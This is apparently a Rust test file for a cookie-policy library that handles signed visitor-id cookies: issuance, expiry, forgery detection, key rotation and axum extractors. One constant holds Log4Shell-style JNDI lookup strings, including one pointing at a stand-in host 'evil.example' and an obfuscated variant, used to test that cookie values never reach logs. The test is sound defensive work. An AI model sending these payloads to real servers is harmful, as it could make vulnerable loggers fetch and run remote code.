//! `OFBiz.Visitor`: who asks for an id gets one, and what was not issued here is none.

use std::cell::RefCell;
use std::collections::HashSet;
use std::time::Duration;

use axum::Router;
use axum::body::Body;
use axum::routing::get;
use http::header::{CACHE_CONTROL, SET_COOKIE, VARY};
use http::{HeaderValue, Request, StatusCode};
use http_body_util::BodyExt;
use tower::{Layer, Service, ServiceExt, service_fn};
use tower_cookie_policy::{
    Action, Basis, Category, CookiePolicy, CookieSpec, Cookies, Integrity, KeyRing, Lifetime, Report, Role,
    SuppressionReason, TestClock, VisitorId,
};

use crate::secrecy::logged;
use crate::support::{
    Answer, NOW, attributes, key, keys, lines, now, request, sent_back, serve, shop, suppressed, visit,
    with_lines,
};

const YEAR: u64 = 31_536_000;

/// What a handler makes of its handle, and the answer.
fn ask<T>(policy: &CookiePolicy, cookies: &[&str], handler: impl Fn(&Cookies) -> T) -> (T, Answer) {
    let made = RefCell::new(None);
    let answer = serve(policy, request(cookies), |request| {
        *made.borrow_mut() = Some(handler(request.extensions().get::<Cookies>().unwrap()));
        Answer::default()
    });
    (made.into_inner().unwrap(), answer)
}

/// A new visitor's id, and the cookie as browsers send it back.
fn issued(policy: &CookiePolicy) -> (VisitorId, String) {
    let (id, answer) = ask(policy, &[], |cookies| cookies.visitor_id().unwrap());
    (id, sent_back(&lines(&answer)[0]))
}

/// The id of a visitor with these cookies, who is a known one.
fn known(policy: &CookiePolicy, cookies: &[&str]) -> Option<VisitorId> {
    let (id, answer) = ask(policy, cookies, Cookies::known_visitor_id);
    assert_eq!(lines(&answer), [""; 0], "to look sets nothing");
    id
}

#[test]
fn who_asks_gets_an_id_and_its_cookie_for_a_year() {
    let policy = shop().build().unwrap();
    let (id, answer) = ask(&policy, &[], |cookies| cookies.visitor_id().unwrap());
    assert_eq!(id.as_str().len(), 22);
    assert!(id.as_str().bytes().all(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'-' | b'_')));
    assert_eq!(id.to_string(), id.as_str());
    let [line] = &lines(&answer)[..] else { panic!("{:?}", lines(&answer)) };
    let signature = line.strip_prefix(&format!("OFBiz.Visitor={id}.")).unwrap();
    assert_eq!(signature.split(';').next().unwrap().len(), 35);
    assert_eq!(
        attributes(line),
        [
            "expires=tue, 23 nov 2027 17:43:12 gmt",
            "httponly",
            "max-age=31536000",
            "path=/",
            "samesite=lax",
            "secure"
        ]
    );
    assert_eq!(answer.headers()[CACHE_CONTROL], "no-store");
    assert_eq!(answer.headers()[VARY], "Cookie");
    assert_eq!(suppressed(&answer), []);
    assert_eq!(known(&policy, &[&sent_back(line)]), Some(id));
}

#[test]
fn to_look_issues_none() {
    let policy = shop().build().unwrap();
    assert_eq!(known(&policy, &[]), None);
    let (_, answer) = ask(&policy, &[], Cookies::known_visitor_id);
    assert_eq!(answer.headers()[VARY], "Cookie", "the answer would be another one with the cookie");
}

#[test]
fn asked_twice_in_one_request_the_same_id_comes() {
    let policy = shop().build().unwrap();
    let (ids, answer) = ask(&policy, &[], |cookies| {
        let before = cookies.known_visitor_id();
        let first = cookies.visitor_id().unwrap();
        // Another cookie between the two is nobody's visitor id.
        cookies.set("theme", "dark").unwrap();
        let clone = cookies.clone();
        [before, Some(first), clone.visitor_id().ok(), cookies.known_visitor_id()]
    });
    let [None, Some(first), second, looked] = ids else { panic!("none was there before") };
    assert_eq!((second, looked), (Some(first.clone()), Some(first)));
    let names: Vec<_> =
        lines(&answer).iter().map(|line| line.split('=').next().unwrap().to_owned()).collect();
    assert_eq!(names, ["OFBiz.Visitor", "theme"]);
}

#[test]
fn many_who_ask_at_the_same_time_get_the_same_id() {
    let policy = shop().build().unwrap();
    let (ids, answer) = ask(&policy, &[], |cookies| {
        let ids = std::sync::Mutex::new(HashSet::new());
        std::thread::scope(|scope| {
            for _ in 0..8 {
                scope.spawn(|| ids.lock().unwrap().insert(cookies.visitor_id().unwrap()));
            }
        });
        ids.into_inner().unwrap()
    });
    assert_eq!((ids.len(), lines(&answer).len()), (1, 1));
}

#[test]
fn no_two_visitors_share_an_id() {
    let policy = shop().build().unwrap();
    let ids: HashSet<_> = (0..1000).map(|_| issued(&policy).0).collect();
    assert_eq!(ids.len(), 1000);
}

#[test]
fn who_comes_back_is_the_same_and_the_year_does_not_slide() {
    let clock = TestClock::at(NOW);
    let policy = shop().clock(clock.clock()).build().unwrap();
    let (id, cookie) = issued(&policy);
    for days in [0, 1, 30, 333] {
        clock.advance(Duration::from_secs(days * 86_400));
        let (again, answer) = ask(&policy, &[&cookie], |cookies| cookies.visitor_id().unwrap());
        assert_eq!((&again, lines(&answer).len()), (&id, 0), "after {days} more days");
    }
    // 364 days are over. A moment before the year is, and then.
    clock.advance(Duration::from_secs(86_400 - 1));
    assert_eq!(known(&policy, &[&cookie]), Some(id.clone()));
    clock.advance(Duration::from_secs(1));
    assert_eq!(visit(&policy, &[&cookie]).reasons("OFBiz.Visitor"), ["expired"]);
    assert_eq!(known(&policy, &[&cookie]), None);
    let (other, answer) = ask(&policy, &[&cookie], |cookies| cookies.visitor_id().unwrap());
    assert_ne!(other, id);
    assert!(attributes(&lines(&answer)[0]).contains(&"max-age=31536000".to_owned()));
}

#[test]
fn a_decimal_id_of_old_is_not_trusted_and_makes_room_for_a_new_one() {
    let policy = shop().build().unwrap();
    for old in ["10000", "63601", "0", "18446744073709551615", "12345678901234567890"] {
        let cookie = format!("OFBiz.Visitor={old}");
        let seen = visit(&policy, &[&cookie]);
        assert_eq!((seen.header(), seen.reasons("OFBiz.Visitor")), (String::new(), vec!["unsigned"]));
        assert_eq!(known(&policy, &[&cookie]), None);
        let (id, answer) = ask(&policy, &[&cookie], |cookies| cookies.visitor_id().unwrap());
        assert_eq!(id.as_str().len(), 22);
        assert_eq!(lines(&answer).len(), 1);
        // One that is still sent beside the new one, from another path or domain, does not take it down.
        let new = sent_back(&lines(&answer)[0]);
        for both in [format!("{cookie}; {new}"), format!("{new}; {cookie}")] {
            assert_eq!(known(&policy, &[&both]), Some(id.clone()), "{old}");
        }
    }
}

#[test]
fn forged_swapped_and_foreign_ids_are_refused_and_a_new_one_is_issued() {
    let policy = shop().build().unwrap();
    let (id, cookie) = issued(&policy);
    let value = cookie.strip_prefix("OFBiz.Visitor=").unwrap();
    let foreign = |ring: KeyRing, name: &str| {
        let (_, cookie) = issued(&CookiePolicy::broadcloud(ring).id(name).node("n").build().unwrap());
        cookie
    };
    let signed_as = |name: &str, value: &str| {
        let row = CookieSpec::new(name, Basis::essential("a test")).integrity(Integrity::Signed);
        let row = row.lifetime(Lifetime::YEAR);
        let policy = CookiePolicy::empty(keys()).clock(TestClock::at(NOW).clock()).with(row).build().unwrap();
        crate::support::issue(&policy, name, value)
    };
    let other = format!("{}{}", if value.starts_with('A') { "B" } else { "A" }, &value[1..]);
    let of_theme = signed_as("theme", id.as_str()).replace("theme=", "OFBiz.Visitor=");
    for (cookie, reason) in [
        (format!("OFBiz.Visitor={id}"), "unsigned"),
        (format!("OFBiz.Visitor={other}"), "modified"),
        (foreign(keys(), "other-site"), "modified"),
        (foreign(KeyRing::new(key(77)), "broadcloud"), "malformed"),
        (of_theme, "modified"),
        // Genuine, and of no shape that this policy issues.
        (signed_as("OFBiz.Visitor", "10000"), "malformed"),
        (signed_as("OFBiz.Visitor", &format!("{id}A")), "malformed"),
        (format!("{cookie}A"), "malformed"),
        ("OFBiz.Visitor=".to_owned(), "unsigned"),
    ] {
        let seen = visit(&policy, &[&cookie]);
        assert_eq!((seen.header(), seen.reasons("OFBiz.Visitor")), (String::new(), vec![reason]), "{cookie}");
        let (new, answer) = ask(&policy, &[&cookie], |cookies| cookies.visitor_id().unwrap());
        assert_ne!(new, id);
        assert_eq!(lines(&answer).len(), 1);
    }
    // The other way round: a visitor's signature speaks for no other cookie.
    let moved = cookie.replace("OFBiz.Visitor=", "theme=");
    assert_eq!(visit(&policy, &[moved]).reasons("theme"), ["modified"]);
}

#[test]
fn of_several_genuine_ids_none_is_the_visitors() {
    let policy = shop().build().unwrap();
    let ((id, one), (_, other)) = (issued(&policy), issued(&policy));
    assert_eq!(known(&policy, &[&format!("{one}; {one}")]), Some(id));
    let both = format!("{one}; {other}");
    assert_eq!(visit(&policy, &[&both]).reasons("OFBiz.Visitor"), ["duplicate"; 2]);
    assert_eq!(known(&policy, &[&both]), None);
    let (_, answer) = ask(&policy, &[&both], |cookies| cookies.visitor_id().unwrap());
    assert_eq!(lines(&answer).len(), 1);
}

#[test]
fn under_a_new_key_the_id_stays_and_so_does_the_day_on_which_it_ends() {
    let clock = TestClock::at(NOW);
    let policy = |ring| shop_of(ring).clock(clock.clock()).build().unwrap();
    let (id, cookie) = issued(&policy(keys()));
    clock.advance(Duration::from_secs(100 * 86_400));
    let rolled = policy(KeyRing::new(key(32)).accepting(key(0)).unwrap());
    let (again, answer) = ask(&rolled, &[&cookie], |cookies| cookies.visitor_id().unwrap());
    assert_eq!(again, id);
    let [line] = &lines(&answer)[..] else { panic!("once: {:?}", lines(&answer)) };
    assert_ne!(sent_back(line), cookie);
    assert!(attributes(line).contains(&format!("max-age={}", YEAR - 100 * 86_400)), "{line}");
    assert_eq!(known(&policy(KeyRing::new(key(32))), &[&sent_back(line)]), Some(id));
}

fn shop_of(ring: KeyRing) -> tower_cookie_policy::CookiePolicyBuilder {
    CookiePolicy::broadcloud(ring).node("web-1")
}

#[test]
fn without_a_row_the_error_says_what_is_missing() {
    let policy = CookiePolicy::empty(keys()).build().unwrap();
    let (error, answer) = ask(&policy, &[], |cookies| cookies.visitor_id().unwrap_err());
    assert_eq!(
        error.to_string(),
        "the table has no row for the visitor id: declare a signed one with `.role(Role::Visitor)`"
    );
    assert_eq!(error.reason(), Some(SuppressionReason::Undeclared));
    assert_eq!(lines(&answer), [""; 0]);
    assert_eq!(known(&policy, &["OFBiz.Visitor=10000"]), None);
}

#[test]
fn the_row_may_have_another_name_and_another_lifetime() {
    let row = CookieSpec::new("who", Basis::essential("a test")).role(Role::Visitor);
    let row = row.integrity(Integrity::Signed).lifetime(Lifetime::days(7));
    let policy = CookiePolicy::empty(keys()).with(row).build().unwrap();
    let (_, answer) = ask(&policy, &[], |cookies| cookies.visitor_id().unwrap());
    let line = &lines(&answer)[0];
    assert!(line.starts_with("who=") && attributes(line).contains(&"max-age=604800".to_owned()), "{line}");
}

#[test]
fn a_row_that_needs_consent_issues_none_without_it() {
    let row = CookieSpec::new("OFBiz.Visitor", Basis::Consent(Category::Statistics)).role(Role::Visitor);
    let row = row.integrity(Integrity::Signed).lifetime(Lifetime::YEAR);
    let policy = CookiePolicy::empty(keys()).with(row).build().unwrap();
    let (error, answer) = ask(&policy, &[], |cookies| cookies.visitor_id().unwrap_err());
    assert_eq!(error.reason(), Some(SuppressionReason::NoConsent));
    assert_eq!(lines(&answer), [""; 0]);
}

#[test]
fn who_asks_when_the_response_has_left_is_told_so() {
    let policy = shop().build().unwrap();
    let (kept, answer) = ask(&policy, &[], Cookies::clone);
    assert_eq!(lines(&answer), [""; 0]);
    let error = kept.visitor_id().unwrap_err();
    assert_eq!(error.to_string(), "cookie \"OFBiz.Visitor\" cannot be set: the response has left");
    assert_eq!((error.reason(), kept.known_visitor_id()), (None, None));
    // An id that came needs no order.
    let (id, cookie) = issued(&policy);
    let (kept, _) = ask(&policy, &[&cookie], Cookies::clone);
    assert_eq!((kept.visitor_id().unwrap(), kept.known_visitor_id()), (id.clone(), Some(id)));
}

#[test]
fn no_handler_writes_the_id_by_hand() {
    let policy = shop().build().unwrap();
    let answer = serve(&policy, request::<&str>(&[]), |request| {
        let cookies = request.extensions().get::<Cookies>().unwrap();
        for error in [
            cookies.set("OFBiz.Visitor", "AAAAAAAAAAAAAAAAAAAAAA").unwrap_err(),
            cookies.remove("OFBiz.Visitor").unwrap_err(),
        ] {
            assert_eq!(error.reason(), Some(SuppressionReason::Managed));
        }
        let _ = cookies.visitor_id().unwrap();
        with_lines(Answer::default(), &["OFBiz.Visitor=10000", "OFBiz.Visitor=; Max-Age=0"])
    });
    assert_eq!(suppressed(&answer), vec![("OFBiz.Visitor".to_owned(), "managed".to_owned()); 2]);
    assert_eq!(lines(&answer).len(), 1, "the crate's own leaves");
    assert!(!lines(&answer)[0].contains("=10000") && !lines(&answer)[0].contains("Max-Age=0"));
}

#[test]
fn a_handler_under_two_policies_asks_the_one_that_has_a_row() {
    let outer = shop().build().unwrap();
    let inner = CookiePolicy::empty(keys()).id("inner").build().unwrap();
    let ids = RefCell::new(Vec::new());
    let handler = service_fn(|request: Request<()>| {
        let cookies = request.extensions().get::<Cookies>().unwrap();
        ids.borrow_mut().extend([cookies.visitor_id().ok(), cookies.known_visitor_id()]);
        std::future::ready(Ok::<_, std::convert::Infallible>(Answer::default()))
    });
    let Ok(answer) = now(outer.layer().layer(inner.layer().layer(handler)).call(request::<&str>(&[])));
    let ids = ids.into_inner();
    assert!(ids[0].is_some() && ids[0] == ids[1]);
    assert!(lines(&answer)[0].starts_with(&format!("OFBiz.Visitor={}.", ids[0].as_ref().unwrap())));
}

/// What made a well-known logging library fetch code, when a server logged the visitor's cookie as it came.
const LOOKUPS: [&str; 4] =
    ["${jndi:ldap://x}", "${jndi:ldap://evil.example/a}", "${${lower:j}ndi:dns://x}", "10000${jndi:rmi://x}"];

#[test]
fn no_value_of_the_cookie_is_ever_logged_or_printed() {
    for action in [Action::Strip, Action::Reject] {
        for lookup in LOOKUPS {
            let policy = shop().action(action).build().unwrap();
            let cookie = format!("OFBiz.Visitor={lookup}");
            let mut printed = Vec::new();
            let log = logged(|| {
                let reached = RefCell::new(None);
                let answer = serve(&policy, request(&[&cookie]), |request| {
                    let cookies = request.extensions().get::<Cookies>().unwrap();
                    let id = cookies.visitor_id().unwrap();
                    let new = id.to_string();
                    let text = format!(
                        "{cookies:?} {:?} {id:?} {:?} {:?} {:?}",
                        cookies.refusals(),
                        Some(&id),
                        cookies.in_force(),
                        request.headers(),
                    );
                    assert!(!text.contains(&new), "{text}");
                    *reached.borrow_mut() = Some((text, new));
                    with_lines(Answer::default(), &[&cookie])
                });
                let report = answer.extensions().get::<Report>().unwrap();
                printed.push(format!("{report:?} {:?}", answer.headers()));
                if let Some((text, new)) = reached.into_inner() {
                    assert!(!printed[0].contains(&new), "{}", printed[0]);
                    printed.push(text);
                }
                let mut headers = http::HeaderMap::new();
                headers.insert("cookie", HeaderValue::from_str(&cookie).unwrap());
                let inspection = tower_cookie_policy::inspect(&policy, &headers);
                printed.push(format!("{inspection} {inspection:?} {policy:?} {:?}", policy.counts()));
            });
            assert_eq!(log.contains("request cookie refused"), cfg!(feature = "tracing"), "{log}");
            printed.push(log);
            for text in printed {
                assert!(!text.contains("jndi") && !text.contains("${"), "{text}");
            }
        }
    }
}

#[test]
fn debug_prints_nothing_of_an_id() {
    let (id, _) = issued(&shop().build().unwrap());
    assert_eq!(format!("{id:?} {:?}", Some(&id)), "VisitorId(..) Some(VisitorId(..))");
}

async fn get_from(app: Router, cookie: Option<&str>) -> (StatusCode, Vec<String>, String) {
    let mut request = Request::builder().uri("/");
    if let Some(cookie) = cookie {
        request = request.header("cookie", cookie);
    }
    let answer = app.oneshot(request.body(Body::empty()).unwrap()).await.unwrap();
    let set = answer.headers().get_all(SET_COOKIE).iter();
    let set = set.map(|line| line.to_str().unwrap().to_owned()).collect();
    let status = answer.status();
    let body = answer.into_body().collect().await.unwrap().to_bytes();
    (status, set, String::from_utf8(body.to_vec()).unwrap())
}

async fn asks(id: VisitorId) -> String {
    id.to_string()
}

async fn looks(id: Option<VisitorId>) -> String {
    id.map_or_else(|| "nobody".to_owned(), |id| id.to_string())
}

#[tokio::test]
async fn the_extractor_asks_and_as_an_option_only_looks() {
    let policy = shop().build().unwrap();
    let app = |route| Router::new().route("/", route).layer(policy.layer());
    let (status, set, body) = get_from(app(get(looks)), None).await;
    assert_eq!((status, set.len(), body.as_str()), (StatusCode::OK, 0, "nobody"));
    let (status, set, id) = get_from(app(get(asks)), None).await;
    assert_eq!((status, set.len()), (StatusCode::OK, 1));
    let cookie = sent_back(&set[0]);
    for route in [get(asks), get(looks)] {
        assert_eq!(get_from(app(route), Some(&cookie)).await, (StatusCode::OK, vec![], id.clone()));
    }
}

#[tokio::test]
async fn an_extractor_without_what_it_needs_says_what_is_missing() {
    let bare = CookiePolicy::empty(keys()).build().unwrap();
    for route in [get(asks), get(looks)] {
        let app = Router::new().route("/", route);
        for (app, words) in
            [(app.clone(), ".layer(policy.layer())"), (app.layer(bare.layer()), ".role(Role::Visitor)")]
        {
            let (status, set, body) = get_from(app, None).await;
            assert_eq!((status, set.len()), (StatusCode::INTERNAL_SERVER_ERROR, 0));
            assert!(body.contains("`VisitorId`") && body.contains(words), "{body}");
        }
    }
}
